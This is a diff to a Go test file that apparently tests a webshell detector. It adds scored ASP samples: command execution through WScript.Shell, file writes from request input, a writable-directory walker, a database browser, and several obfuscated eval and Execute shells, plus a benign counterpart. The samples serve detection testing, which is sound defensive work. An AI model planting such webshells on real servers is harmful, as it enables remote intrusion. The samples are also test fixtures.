@@ -189,6 +189,93 @@ With Server.CreateObject("ADODB.Stream")
 	.SaveToFile Request.QueryString("f"), 2
 End With
 %>`, 75, "asp.upload-input"},
+	{"write-wrapper", `<%
+Sub SaveFile(p, body)
+	Set fso = Server.CreateObject("Scripting.FileSystemObject")
+	Set ts = fso.CreateTextFile(p, True)
+	ts.Write body
+	ts.Close
+End Sub
+Select Case Request("action")
+Case "save"
+	Call SaveFile(Request("filename"), Request("content"))
+End Select
+%>`, 75, "asp.file-write-input"},
+	{"byref-objects", `<%
+Dim F, W
+Sub CreateObj(F, W)
+	Set F = Server.CreateObject("Scripting.FileSystemObject")
+	Set W = Server.CreateObject("WScript.Shell")
+End Sub
+CreateObj F, W
+Function RunCmd(c)
+	RunCmd = W.Exec(c).StdOut.ReadAll()
+End Function
+Response.Write RunCmd("cmd /c " & Request("cmd"))
+%>`, 95, "asp.cmd-input"},
+	{"write-probe", `<%
+Set fso = Server.CreateObject("Scripting.FileSystemObject")
+Function Probe(dir)
+	On Error Resume Next
+	fso.CreateTextFile(dir & "\" & fso.GetTempName)
+	Probe = (Err.Number = 0)
+	Err.Clear
+End Function
+Sub Clean(dir)
+	fso.DeleteFile(dir & "\*.tmp")
+End Sub
+Sub Walk(p)
+	If Probe(p) Then Response.Write p & " writable<br>": Clean p
+	For Each d In fso.GetFolder(p).SubFolders
+		Walk p & "\" & d.Name
+	Next
+End Sub
+Walk Request("root")
+%>`, 60, "asp.write-probe"},
+	{"db-browser", `<%
+Set conn = Server.CreateObject("ADODB.Connection")
+conn.Open "Provider=SQLOLEDB;Server=" & Request("host") & ";UID=" & Request("user") & ";PWD=" & Request("pass")
+Set rs = conn.Execute("SELECT * FROM [" & Request("table") & "]")
+Do While Not rs.EOF
+	Response.Write rs(0) & "<br>"
+	rs.MoveNext
+Loop
+%>`, 60, "asp.db-browser"},
+	{"undefined-in-class-name", `<%
+Set o = Server.CreateObject("Scr" & nothingAssigned & "ipting.FileSystemObject")
+Set t = o.CreateTextFile(Request("p"), True)
+t.Write Request("d")
+%>`, 75, "asp.file-write-input"},
+	{"missing-separator", `<% a=request(chr(97)) ExecuteGlobal(StrReverse(a)) %>`, 95, "asp.exec-input"},
+	{"hidden-through-replace", `<%
+Function Unwheel(s, k)
+	For i = 1 To Len(s)
+		For j = 1 To 5000
+			k = (k * 31 + j) Mod 65521
+		Next
+		t = t & Mid(s, i, 1)
+	Next
+	Unwheel = t
+End Function
+code = Unwheel("` + strings.Repeat("Zq3!xP0@Lm9#Rt7$", 40) + `", "key")
+code = Replace(code, "~", vbCrLf)
+Session("c") = code
+Execute(Session("c"))
+%>`, 70, "asp.exec-hidden"},
+	{"skeleton", `<%eval("e"&"v"&"a"&"l"&"("&"r"&"e"&"q"&"u"&"e"&"s"&"t"&"("&("x" - "y")&")"&")")%>`, 95, "asp.exec-input"},
+	{"decoder-prepend", `<%
+Function Rev(s)
+	For i = 1 To Len(s)
+		If Mid(s, i, 1) <> "~" Then
+			r = Mid(s, i, 1) + r
+		Else
+			r = vbCrLf + r
+		End If
+	Next
+	Rev = r
+End Function
+Execute Rev(")""x""(tseuqer lave~1 = a")
+%>`, 95, "asp.exec-input"},
 }
 
 // benign probes: ordinary pages that share vocabulary with webshells.
@@ -205,6 +292,11 @@ Set fso = Server.CreateObject("Scripting.FileSystemObject")
 Set f = fso.OpenTextFile(Server.MapPath("data/book.txt"), 8, True)
 f.WriteLine Server.HTMLEncode(Request.Form("name")) & "|" & Server.HTMLEncode(Request.Form("msg"))
 f.Close
+%>`, 0, ""},
+	{"dispatch-skeleton", `<%
+cls = Application("handler")
+Execute("Set h = New " & cls & " : h.Run CLng(Request.QueryString(""id""))")
+ExecuteGlobal "Const VERSION_" & Application("ver") & " = ""1.0"""
 %>`, 0, ""},
 	{"installer", `<%
 Set fso = Server.CreateObject("Scripting.FileSystemObject")
